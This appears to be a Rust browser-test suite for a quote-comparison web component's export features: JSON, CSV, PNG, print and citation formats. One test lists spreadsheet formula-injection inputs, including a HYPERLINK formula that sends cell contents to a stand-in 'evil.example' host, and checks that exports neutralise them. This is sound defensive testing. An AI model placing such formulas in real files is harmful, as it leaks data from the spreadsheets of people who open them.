//! Taking away what is on screen: as a file, as a table, as a picture, on paper; and one quote to be cited.

use serde_json::{Value, json};
use standpoint::bundle::parse;

use crate::{
    engine::Engine,
    engines::in_every_engine,
    page::Page,
    server::{Answer, STRICT, Site},
};

/// A bundle with all that is hard to write into other formats.
fn hard() -> Value {
    json!({
        "standpoint": 1, "name": "A second bridge", "inLanguage": "en", "license": "CC0",
        "sources": [{
            "id": "s", "name": "Bridge {plans} & <costs>", "author": "D. Writer", "publisher": "The Courier",
            "url": "https://example.org/bridge?a=1&b={2}", "archivedAt": "https://archive.example/1",
            "datePublished": "2025-07",
        }],
        "speakers": [{ "id": "ada", "name": "Ada" }, { "id": "ben", "name": "=Ben", "role": "Mayor" }],
        "issues": [{ "id": "bridge", "name": "Second bridge", "statement": "The city needs a second bridge." }],
        "quotes": [
            { "id": "v", "text": ["We *need*", "a \"second\" bridge, 100% sure."], "speaker": "ada", "issues": ["bridge"],
              "source": "s", "date": "2025-07-14", "locator": "p. 3", "attribution": "told the paper" },
            { "id": "p", "text": "-1+1 is not what he wants.", "speaker": "ben", "issues": ["bridge"],
              "kind": "paraphrase", "source": "s", "inLanguage": "fr" },
            { "id": "f", "text": "Un pont ?", "speaker": "ben", "issues": ["bridge"], "inLanguage": "fr" },
        ],
        "stances": [
            { "speaker": "ada", "issue": "bridge", "position": "support", "evidence": ["v"] },
            { "speaker": "ben", "issue": "bridge", "position": "oppose", "basis": "vote", "date": "2024" },
        ],
    })
}

fn open(site: &Site, bundle: &Value) -> Page {
    site.answer("/bundle.json", Answer::json(bundle.to_string()));
    site.page("/host", "<stand-point src=\"/bundle.json\"></stand-point>");
    let page = Page::open(site, "/host");
    page.find("button", "Take away");
    page
}

/// What a citation has of the fields that the schema of CSL data knows; it refuses all others.
const CSL_FIELDS: [&str; 10] =
    ["id", "type", "title", "author", "publisher", "issued", "URL", "archive_location", "language", "note"];

/// Runs `body` with the module of that name as `it`, `say`, and these arguments as `given`.
#[track_caller]
fn with_module(page: &Page, name: &str, body: &str, given: &Value) -> Value {
    let body = format!(
        "const given = arguments; return (async () => {{
             const {{ FILES }} = await import(location.origin + '/standpoint.js');
             const file = (name) => import(location.origin + '/' + FILES[name]);
             const [{{ load }}, {{ words }}] = await Promise.all(['ask', 'words'].map(file));
             const it = await load('{name}');
             const english = await words(['en'], FILES.languages, (name) => location.origin + '/' + name);
             const say = (id, values = {{}}) => english.message(id, Object.entries(values).flat());
             {body}
         }})()"
    );
    page.script(&body, given)
}

/// Notes what the page saves from now on, in place of a folder of downloads.
const WATCH: &str = "
    window.saved = [];
    const create = URL.createObjectURL;
    URL.createObjectURL = (blob) => (window.last = blob, create.call(URL, blob));
    HTMLAnchorElement.prototype.click = function () { saved.push({ name: this.download, href: this.href, blob: last }) };";

/// What was saved last under a name that ends like this, as text with its byte order mark.
#[track_caller]
fn saved(page: &Page, end: &str) -> String {
    let text = "const one = saved.find(({ name }) => name.endsWith(arguments[0]));
        return one && one.blob.arrayBuffer().then((bytes) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes))";
    let look = || page.script(text, &json!([end])).as_str().map(str::to_owned);
    page.wait(look, || format!("nothing is saved as …{end}"))
}

#[test]
fn what_is_on_screen_is_saved_in_every_form() {
    let site = Site::new();
    site.set_policy(STRICT).page("/host", "<stand-point src=\"/bundles/ukraine-pivot.json\"></stand-point>");
    let page = Page::open(&site, "/host");
    page.click("button", "Only George Beebe");
    page.see_text("Showing 1 of 3 speakers, 3 quotes.");
    page.script(WATCH, &json!([]));
    page.click("button", "Take away");
    page.click("button", "Comparison as JSON: 3 quotes");
    let name = "The-war-in-Ukraine-and-U-S-policy-three-people-in-one-articl";
    let json = saved(&page, &format!("{name}.json"));
    let bundle = parse(json.as_bytes()).unwrap();
    assert_eq!((bundle.quotes.len(), bundle.speakers.len(), bundle.problems.len()), (3, 1, 0), "{json}");
    page.see_text(&format!("Saved as {name}.json"));

    page.click("button", "Table for spreadsheets: …");
    let table = saved(&page, "articl.csv");
    assert!(table.starts_with("\u{feff}\"quote_id\",") && table.contains("\"George Beebe\""), "{table}");
    page.click("button", "Table for data tools: …");
    let table = saved(&page, "-data.csv");
    assert!(table.starts_with("quote_id,") && !table.contains("Bucci"), "{table}");

    page.click("button", "Picture of this issue");
    page.wait(|| (!page.all("image", "…George Beebe…").is_empty()).then_some(()), || "there is no picture".to_owned());
    assert!(saved(&page, ".png").contains("PNG"));
    let words = page.find("textbox", "Words for those who do not see the picture").property("value");
    assert!(words.as_str().unwrap().contains("George Beebe"), "{words}");
    page.script("window.print = () => { window.printed = document.querySelector('stand-point').shadowRoot.querySelectorAll('dialog').length }", &json!([]));
    page.click("button", "Print: 3 quotes");
    page.wait(|| page.script("return window.printed", &json!([])).as_u64(), || "nothing is printed".to_owned());
    page.find_no("dialog", "Take away");
    assert_eq!(page.csp_violations(), json!([]));
    assert_eq!(page.console_errors(), [""; 0]);
}

in_every_engine!(is_saved_and_drawn);

fn is_saved_and_drawn(engine: Engine) {
    let site = Site::new();
    site.answer("/bundle.json", Answer::json(hard().to_string()));
    site.page("/host", "<stand-point src=\"/bundle.json\"></stand-point>");
    let page = Page::open_in(engine, &site, "/host");
    page.find("button", "Take away");
    page.script(WATCH, &json!([]));
    page.click("button", "Take away");
    page.click("button", "Comparison as JSON: 3 quotes");
    assert_eq!(parse(saved(&page, "A-second-bridge.json").as_bytes()).unwrap().quotes.len(), 3);
    page.click("button", "Table for data tools: 4 rows");
    assert_eq!(records(&saved(&page, "-data.csv")).len(), 5);
    page.click("button", "Picture of this issue");
    assert!(saved(&page, "-Second-bridge.png").contains("PNG"));
    page.click("button", "Close");
}

#[test]
fn a_saved_file_reaches_the_readers_folder() {
    let site = Site::new();
    let page = open(&site, &hard());
    let folder = std::env::temp_dir().join(format!("standpoint-saved-{}", std::process::id()));
    let behaviour = json!({ "behavior": "allow", "downloadPath": folder.to_str().unwrap() });
    page.cdp("Browser.setDownloadBehavior", &behaviour);
    page.click("button", "Take away");
    page.click("button", "Comparison as JSON: 3 quotes");
    let file = folder.join("A-second-bridge.json");
    let read = || std::fs::read(&file).ok().filter(|bytes| bytes.ends_with(b"}\n"));
    let bytes = page.wait(read, || format!("{} does not come", file.display()));
    assert_eq!(parse(&bytes).unwrap().quotes.len(), 3);
    std::fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn no_cell_is_a_formula_for_a_spreadsheet() {
    let site = Site::new();
    let page = open(&site, &hard());
    let texts = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u{a0}=1",
        "\u{200b}=1",
        "\u{feff}@x",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "\ttext",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "plain",
        "1-1",
        "a,b",
        "say \"so\"",
        "two\nlines",
        "",
    ];
    for text in texts {
        let bundle = json!({ "name": text, "quotes": [{ "id": "q", "text": text }] });
        let both = with_module(
            &page,
            "csv",
            "return [it.csv(given[0], { spreadsheet: true }), it.csv(given[0])]",
            &json!([bundle]),
        );
        let guarded = records(both[0].as_str().unwrap().strip_prefix('\u{feff}').expect("a byte order mark"));
        let plain = records(both[1].as_str().unwrap());
        for (name, is_formula) in [("text", &texts[..16]), ("comparison", &texts[..16])] {
            let at = plain[0].iter().position(|column| column == name).unwrap();
            assert_eq!(plain[1][at], text, "{text:?} is another text for data tools");
            let expected = if is_formula.contains(&text) { format!("'{text}") } else { text.to_owned() };
            assert_eq!(guarded[1][at], expected, "{text:?} for a spreadsheet");
        }
        assert_eq!((plain.len(), guarded.len()), (2, 2));
    }
}

#[test]
fn a_table_has_a_row_for_each_quote_on_each_issue_and_for_each_position_without() {
    let site = Site::new();
    let page = open(&site, &hard());
    let table = with_module(&page, "csv", "return it.csv(given[0])", &json!([hard()]));
    let rows = records(table.as_str().unwrap());
    let column = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
    let cells =
        |row: usize, names: &[&str]| -> Vec<&str> { names.iter().map(|name| &*rows[row][column(name)]).collect() };
    assert_eq!(rows.len(), 5);
    let told =
        ["quote_id", "speaker", "issue", "position", "role", "text", "date", "url", "locator", "language", "license"];
    assert_eq!(
        cells(1, &told),
        [
            "v",
            "Ada",
            "Second bridge",
            "support",
            "supports",
            "We *need* […] a \"second\" bridge, 100% sure.",
            "2025-07-14",
            "https://example.org/bridge?a=1&b={2}",
            "p. 3",
            "en",
            "CC0"
        ]
    );
    assert_eq!(cells(2, &["quote_id", "kind", "position", "language"]), ["p", "paraphrase", "", "fr"]);
    assert_eq!(
        cells(4, &["quote_id", "speaker", "issue", "position", "basis", "date", "text"]),
        ["", "=Ben", "Second bridge", "oppose", "vote", "2024", ""]
    );
}

#[test]
fn a_quote_is_cited_with_its_words_as_printed() {
    let site = Site::new();
    let page = open(&site, &hard());
    let cite =
        |id: &str| with_module(&page, "cite", "return it.cite(given[0], given[1], say, 'en-GB')", &json!([hard(), id]));
    let cited = cite("v");
    assert_eq!(
        cited["text"],
        "“We *need*” […] “a \"second\" bridge, 100% sure.”\n— Ada, told the paper, 14 July 2025\n\
         Bridge {plans} & <costs>, D. Writer, The Courier, July 2025, p. 3\nhttps://example.org/bridge?a=1&b={2}\n\
         archived copy: https://archive.example/1"
    );
    let markdown = cited["markdown"].as_str().unwrap();
    assert!(markdown.starts_with("> “We \\*need\\*” \\[…\\] “a \"second\" bridge, 100% sure.”\n\n— Ada"), "{markdown}");
    assert!(
        markdown.contains("[Bridge \\{plans\\} \\& \\<costs\\>](<https://example.org/bridge?a=1&b={2}>)"),
        "{markdown}"
    );

    // The HTML says the same when it is read, and has nothing in it but what belongs there.
    let read = "const page = new DOMParser().parseFromString(arguments[0], 'text/html');
        return [page.querySelector('blockquote').textContent, page.querySelector('blockquote').cite,
                page.querySelector('blockquote').lang, page.querySelector('cite a').textContent, page.querySelectorAll('*').length]";
    let html = page.script(read, &json!([cited["html"]]));
    assert_eq!(html[0], "“We *need*” […] “a \"second\" bridge, 100% sure.”");
    assert_eq!(html[1], "https://example.org/bridge?a=1&b={2}");
    assert_eq!((&html[2], &html[3]), (&json!("en"), &json!("Bridge {plans} & <costs>")));
    assert_eq!(html[4], 11, "{}", cited["html"]);

    let paraphrase = cite("p");
    assert_eq!(
        paraphrase["text"].as_str().unwrap().lines().take(3).collect::<Vec<_>>(),
        ["Paraphrased by the source: not a quote", "-1+1 is not what he wants.", "— =Ben (Mayor)"]
    );
    assert_eq!(cite("f")["text"], "«\u{a0}Un pont ?\u{a0}»\n— =Ben (Mayor)");
}

#[test]
fn a_citation_is_good_bibtex_and_csl() {
    let site = Site::new();
    let page = open(&site, &hard());
    let cite =
        |id: &str| with_module(&page, "cite", "return it.cite(given[0], given[1], say, 'en-GB')", &json!([hard(), id]));
    let mut keys = Vec::new();
    for id in ["v", "p", "f"] {
        let cited = cite(id);
        let bibtex = cited["bibtex"].as_str().unwrap();
        let csl: Value = serde_json::from_str(cited["csl"].as_str().unwrap()).unwrap();
        let [item] = &csl.as_array().unwrap()[..] else { panic!("{csl}") };
        let unknown = item.as_object().unwrap().keys().find(|key| !CSL_FIELDS.contains(&key.as_str()));
        assert_eq!(unknown, None);
        assert!(["webpage", "document", "speech"].contains(&item["type"].as_str().unwrap()), "{item}");
        let fields = bibtex_fields(bibtex);
        assert!(bibtex.starts_with(&format!("@misc{{{},", item["id"].as_str().unwrap())), "{bibtex}");
        assert!(fields.iter().any(|(name, _)| name == "note"), "{bibtex}");
        keys.push(item["id"].clone());
        if id == "v" {
            assert_eq!(item["issued"], json!({ "date-parts": [[2025, 7]] }), "no more of a date than is known");
            assert_eq!(item["author"], json!([{ "literal": "D. Writer" }]));
            let field = |wanted: &str| &*fields.iter().find(|(name, _)| name == wanted).unwrap().1;
            assert_eq!(field("title"), "{{Bridge \\textbraceleft{}plans\\textbraceright{} \\& <costs>}}");
            assert_eq!((field("year"), field("month"), field("date")), ("{2025}", "jul", "{2025-07}"));
            assert_eq!(field("url"), "{https://example.org/bridge?a=1&b=%7B2%7D}");
            assert!(field("note").contains("100\\% sure"), "{bibtex}");
        }
    }
    assert!(keys[0] != keys[1] && keys[1] != keys[2], "{keys:?}");
}

#[test]
fn a_picture_shows_everybody_in_the_readers_colours() {
    let site = Site::new();
    let page = open(&site, &hard());
    let mut grounds = Vec::new();
    for scheme in ["light", "dark"] {
        page.set_media("", &[("prefers-color-scheme", scheme)]);
        page.script("document.documentElement.style.colorScheme = 'light dark'", &json!([]));
        let drawn = with_module(
            &page,
            "picture",
            "const [cite, easel] = await Promise.all(['cite', 'easel'].map(load));
             const viewer = document.querySelector('stand-point').shadowRoot.querySelector('.viewer');
             const paint = it.look(viewer);
             const { canvas, alt, cut } = it.issuePicture(given[0], 'bridge', paint, { cite, easel, say, language: 'en-GB' });
             const image = await createImageBitmap(await it.png(canvas));
             const copy = new OffscreenCanvas(image.width, image.height).getContext('2d');
             copy.drawImage(image, 0, 0);
             const { data } = copy.getImageData(0, 0, image.width, image.height);
             const colours = new Map();
             for (let at = 0; at < data.length; at += 4) {
                 const colour = `rgb(${data[at]}, ${data[at + 1]}, ${data[at + 2]})`;
                 colours.set(colour, (colours.get(colour) ?? 0) + 1);
             }
             const many = (colour) => colours.get(colour) ?? 0;
             return [image.width, image.height, many(paint.paper), many(paint.for), many(paint.against), many(paint.ink), alt, cut, paint.paper]",
            &json!([hard()]),
        );
        assert_eq!((&drawn[0], &drawn[1]), (&json!(2400), &json!(1260)));
        for (at, what) in [(2, "ground"), (3, "for"), (4, "against"), (5, "ink")] {
            assert!(drawn[at].as_u64() > Some(500), "there is little of the colour “{what}”: {drawn}");
        }
        let alt = drawn[6].as_str().unwrap();
        for words in [
            "The city needs a second bridge.",
            "Ada: Supports. “We *need*” […]",
            "=Ben: Opposes.",
            "not a quote -1+1 is",
        ] {
            assert!(alt.contains(words), "{words} is not in {alt}");
        }
        assert_eq!(drawn[7], false);
        grounds.push(drawn[8].clone());
    }
    assert_ne!(grounds[0], grounds[1], "the picture is not as dark as the page");
}

#[test]
fn a_picture_never_cuts_words_in_silence() {
    let site = Site::new();
    let page = open(&site, &hard());
    let picture = |text: &str, language: &str| {
        let mut bundle = hard();
        bundle["quotes"][0]["text"] = text.into();
        bundle["quotes"][0]["inLanguage"] = language.into();
        with_module(
            &page,
            "picture",
            "const [cite, easel] = await Promise.all(['cite', 'easel'].map(load));
             const paint = it.look(document.querySelector('stand-point').shadowRoot.querySelector('.viewer'));
             const { alt, cut } = it.quotePicture(given[0], 'v', paint, { cite, easel, say, language: 'en-GB' });
             return [alt, cut]",
            &json!([bundle]),
        )
    };
    let short = picture("We need it.", "en");
    assert_eq!(short[1], false);
    assert!(short[0].as_str().unwrap().starts_with("“We need it.”\nAda, told the paper, 14 July 2025\n"), "{short}");
    for (text, language, end) in [
        ("We need a second bridge. ".repeat(300), "en", "” […]\n"),
        ("我們需要第二座橋。".repeat(500), "zh-Hant", "」 […]\n"),
        ("אנחנו צריכים גשר שני. ".repeat(300), "he", "” […]\n"),
        ("w".repeat(30_000), "en", "” […]\n"),
    ] {
        let long = picture(&text, language);
        assert_eq!(long[1], true);
        let alt = long[0].as_str().unwrap();
        assert!(alt.contains(end) && alt.contains("The words are cut here; the source has them all."), "{alt}");
    }
}

#[test]
fn on_paper_a_copy_in_an_archive_shows_its_address_too() {
    let site = Site::new();
    let page = open(&site, &hard());
    page.set_media("print", &[]);
    for address in ["https://example.org/bridge?a=1&b={2}", "https://archive.example/1"] {
        let shown = || (!page.all("link", &format!("…<{address}>…")).is_empty()).then_some(());
        page.wait(shown, || format!("{address} is not printed; there is\n{}", page.tree()));
    }
    assert!(page.all("button", "…").is_empty(), "nobody presses buttons on paper");
}

/// The records of a table, as RFC 4180 has them.
fn records(csv: &str) -> Vec<Vec<String>> {
    let mut records = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(char) = chars.next() {
        let record = records.last_mut().unwrap();
        match char {
            '"' if quoted && chars.peek() == Some(&'"') => record.last_mut().unwrap().extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(String::new()),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                records.push(vec![String::new()]);
            }
            char => record.last_mut().unwrap().push(char),
        }
    }
    assert!(!quoted, "a quotation mark is open: {csv}");
    assert_eq!(records.pop().unwrap(), [""], "the last line does not end");
    records
}

/// The fields of one entry of BibTeX, each with its braces, which BibTeX counts without heeding backslashes.
fn bibtex_fields(entry: &str) -> Vec<(String, String)> {
    let body = entry.trim_end().strip_suffix("\n}").expect("the entry ends");
    let (_, body) = body.split_once(",\n").expect("the entry has a key");
    body.lines()
        .map(|line| {
            let (name, value) = line.trim().split_once(" = ").expect("a field has a value");
            let value = value.strip_suffix(',').expect("a field ends");
            let depth = value.chars().fold(0, |depth, char| {
                let depth = depth + i32::from(char == '{') - i32::from(char == '}');
                assert!(depth >= 0, "{value}");
                depth
            });
            assert_eq!(depth, 0, "{value}");
            (name.to_owned(), value.to_owned())
        })
        .collect()
}
